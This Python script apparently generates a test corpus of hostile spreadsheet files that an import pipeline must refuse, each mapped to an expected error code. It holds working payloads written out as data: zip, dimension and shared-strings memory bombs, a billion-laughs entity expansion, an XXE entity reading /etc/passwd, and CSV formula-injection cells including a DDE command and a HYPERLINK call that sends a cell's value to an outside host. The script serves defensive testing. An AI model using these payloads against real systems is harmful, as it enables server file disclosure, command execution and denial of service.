"""Write the hostile-file corpus of ``tests/data/hostile/``: small files that once took a reader
gigabytes of memory or ran a formula, each of which must now be refused (or neutralised).

The bytes are deterministic (fixed zip dates, no randomness), so the committed files are exactly
what :func:`write_corpus` writes; a test checks it. Regenerate with::

    uv run python tests/hostile_files.py
"""

from __future__ import annotations

import io
import sys
import zipfile
from collections.abc import Iterable
from pathlib import Path

FOLDER = Path(__file__).resolve().parent / "data" / "hostile"
FIXED = (1980, 1, 1, 0, 0, 0)
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
HEADER = ("instance_id", "org_name", "members")


def _cell(ref: str, text: str) -> str:
    if text.isdigit():
        return f'<c r="{ref}"><v>{text}</v></c>'
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def _row(number: int, cells: Iterable[tuple[str, str]]) -> str:
    inner = "".join(_cell(f"{col}{number}", text) for col, text in cells)
    return f'<row r="{number}">{inner}</row>'


def sheet_xml(rows: Iterable[str], dimension: str | None = None, prologue: str = "") -> bytes:
    """A worksheet part: ``rows`` are ``<row>`` elements, ``dimension`` the declared used range."""
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n{prologue}'
        f'<worksheet xmlns="{MAIN}" xmlns:r="{RELS}">{dim}<sheetData>{"".join(rows)}'
        "</sheetData></worksheet>"
    ).encode()


def small_answers() -> list[str]:
    """A header and two submissions of the ``coop`` test method."""
    return [
        _row(1, zip("ABC", HEADER, strict=True)),
        _row(2, zip("ABC", ("uuid:a", "Altan tal", "12"), strict=True)),
        _row(3, zip("ABC", ("uuid:b", "Khan-Uul", "7"), strict=True)),
    ]


def workbook(sheet: bytes, shared_strings: bytes | None = None) -> bytes:
    """A minimal .xlsx around one worksheet part (and a shared strings part, if given)."""
    types = (
        '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
        'package/2006/content-types"><Default Extension="rels" ContentType="application/'
        'vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" '
        'ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType='
        '"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        + (
            '<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
            if shared_strings is not None
            else ""
        )
        + "</Types>"
    )
    root_rels = (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
        'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://'
        'schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
        'Target="xl/workbook.xml"/></Relationships>'
    )
    book = (
        f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{MAIN}" xmlns:r="{RELS}">'
        '<sheets><sheet name="definitions" sheetId="1" r:id="rId1"/></sheets></workbook>'
    )
    book_rels = (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
        'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://'
        'schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
        'Target="worksheets/sheet1.xml"/>'
        + (
            '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/'
            '2006/relationships/sharedStrings" Target="sharedStrings.xml"/>'
            if shared_strings is not None
            else ""
        )
        + "</Relationships>"
    )
    parts = {
        "[Content_Types].xml": types.encode(),
        "_rels/.rels": root_rels.encode(),
        "xl/workbook.xml": book.encode(),
        "xl/_rels/workbook.xml.rels": book_rels.encode(),
        "xl/worksheets/sheet1.xml": sheet,
    }
    if shared_strings is not None:
        parts["xl/sharedStrings.xml"] = shared_strings
    return zipped(parts)


def zipped(parts: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(zipfile.ZipInfo(name, date_time=FIXED), data, zipfile.ZIP_DEFLATED, 9)
    return buffer.getvalue()


def dimension_bomb() -> bytes:
    """Answers, then one cell at XFD1048576: calamine would allocate the whole sheet, 16,384
    columns by 1,048,576 rows (about 550 GB)."""
    far = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    return workbook(sheet_xml([*small_answers(), far], dimension="A1:XFD1048576"))


def sparse_bomb() -> bytes:
    """Cells A1 and ZZ300000 only (702 columns by 300,000 rows, about 7 GB in calamine)."""
    rows = [_row(1, [("A", "instance_id")]), '<row r="300000"><c r="ZZ300000"><v>1</v></c></row>']
    return workbook(sheet_xml(rows, dimension="A1:ZZ300000"))


def declared_dimension() -> bytes:
    """A few cells, but a declared used range of A1:XFD1048576 (the declaration is a lie)."""
    return workbook(sheet_xml(small_answers(), dimension="A1:XFD1048576"))


def undeclared_extent() -> bytes:
    """A declared range of A1:C3, with a cell at XFD1048576 beyond it (the declaration lies the
    other way), and cells without ``r`` references that a reader places one after another."""
    far = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    plain = "<row>" + "<c><v>1</v></c>" * 3 + "</row>"
    return workbook(sheet_xml([*small_answers(), plain, far], dimension="A1:C3"))


def shared_strings_bomb() -> bytes:
    """One shared string of 300,000 characters referenced by 10,000 cells: each cell holds its
    own copy in a reader (3 GB), from a file of some kilobytes. The string repeats a 2,000-letter
    pattern, so that no part grows more than 100 times when unpacked."""
    pattern = "".join(chr(97 + (i * 7919 + i // 3) % 26) for i in range(2000))
    text = pattern * 150
    strings = (
        f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{MAIN}" count="10000" '
        f'uniqueCount="1"><si><t>{text}</t></si></sst>'
    ).encode()
    cells = [f'<row r="{r}"><c r="A{r}" t="s"><v>0</v></c></row>' for r in range(1, 10_001)]
    return workbook(sheet_xml(cells), strings)


def strings_count_bomb() -> bytes:
    """A shared strings part that claims a billion strings (readers size their tables by it)."""
    strings = (
        f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{MAIN}" count="1000000000" '
        f'uniqueCount="1000000000"><si><t>x</t></si></sst>'
    ).encode()
    return workbook(sheet_xml(small_answers()), strings)


def zip_bomb() -> bytes:
    """A worksheet part of 200 MB of one repeated cell, packed about 1000 times."""
    rows = ['<row r="1"><c r="A1"><v>1</v></c>' + "<c/>" * 50_000_000 + "</row>"]
    return workbook(sheet_xml(rows))


def billion_laughs_sheet() -> bytes:
    """The "billion laughs" entity expansion inside the worksheet part itself."""
    laughs = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10)
    ]
    prologue = "<!DOCTYPE worksheet [\n" + "\n".join(laughs) + "\n]>\n"
    rows = [
        _row(1, [("A", "instance_id")]),
        '<row r="2"><c r="A2" t="inlineStr"><is><t>&lol9;</t></is></c></row>',
    ]
    return workbook(sheet_xml(rows, prologue=prologue))


def external_entity_sheet() -> bytes:
    """An external entity (XXE) that would read a file of the server into a cell."""
    prologue = '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    rows = [
        _row(1, [("A", "instance_id")]),
        '<row r="2"><c r="A2" t="inlineStr"><is><t>&xxe;</t></is></c></row>',
    ]
    return workbook(sheet_xml(rows, prologue=prologue))


def not_a_zip() -> bytes:
    """A PDF document renamed to .xlsx (binary, and no zip archive)."""
    body = bytes((i * 7919 + 13) % 256 for i in range(2000))
    return b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n" + body


def formula_cells_csv() -> bytes:
    """A plain answers CSV whose instance ids a spreadsheet program would run as formulas."""
    rows = [
        "instance_id,org_name,members",
        '"=HYPERLINK(""http://example.invalid/?x=""&A1,""click"")",Altan tal,3',
        "+cmd|' /C calc'!A0,Khan-Uul,4",
        "-2+3,Orkhon,5",
        "@SUM(1+1),Selenge,6",
        '"\tTab start",Tuv,7',
        '"\rCarriage return",Dornod,8',
    ]
    return ("\r\n".join(rows) + "\r\n").encode()


CORPUS = {
    "dimension-bomb.xlsx": dimension_bomb,
    "sparse-bomb.xlsx": sparse_bomb,
    "declared-dimension.xlsx": declared_dimension,
    "undeclared-extent.xlsx": undeclared_extent,
    "shared-strings-bomb.xlsx": shared_strings_bomb,
    "strings-count-bomb.xlsx": strings_count_bomb,
    "zip-bomb.xlsx": zip_bomb,
    "billion-laughs-sheet.xlsx": billion_laughs_sheet,
    "external-entity.xlsx": external_entity_sheet,
    "not-a-zip.xlsx": not_a_zip,
    "formula-cells.csv": formula_cells_csv,
}

# The catalogue code each refused workbook of the corpus gets, by each way in.
REFUSED = {
    "dimension-bomb.xlsx": "ingest.sheet_too_large",
    "sparse-bomb.xlsx": "ingest.sheet_too_large",
    "declared-dimension.xlsx": "ingest.sheet_too_large",
    "undeclared-extent.xlsx": "ingest.sheet_too_large",
    "shared-strings-bomb.xlsx": "ingest.string_too_long",
    "strings-count-bomb.xlsx": "ingest.strings_too_large",
    "zip-bomb.xlsx": "ingest.zip_bomb",
    "billion-laughs-sheet.xlsx": "ingest.xml_entities",
    "external-entity.xlsx": "ingest.xml_entities",
}
# What an import says of a file that is not a workbook at all, and what a method workbook says.
NOT_A_ZIP = {"import": "ingest.binary", "method": "ingest.zip_broken"}


def write_corpus(folder: Path = FOLDER) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    for name, make in CORPUS.items():
        (folder / name).write_bytes(make())


if __name__ == "__main__":
    write_corpus(Path(sys.argv[1]) if len(sys.argv) > 1 else FOLDER)
